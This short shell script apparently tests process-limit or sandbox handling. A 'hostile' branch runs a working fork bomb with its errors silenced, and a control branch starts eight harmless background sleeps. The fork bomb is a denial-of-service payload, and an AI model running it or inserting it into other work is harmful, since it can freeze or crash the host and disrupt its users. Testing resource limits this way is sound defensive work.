# Forks without end. Control: a few times.
bomb() { bomb | bomb & }
case $1 in
hostile)
  bomb 2>/dev/null
  sleep 600
  ;;
*)
  for turn in 1 2 3 4 5 6 7 8; do sleep 0.1 & done
  wait
  echo forked
  ;;
esac
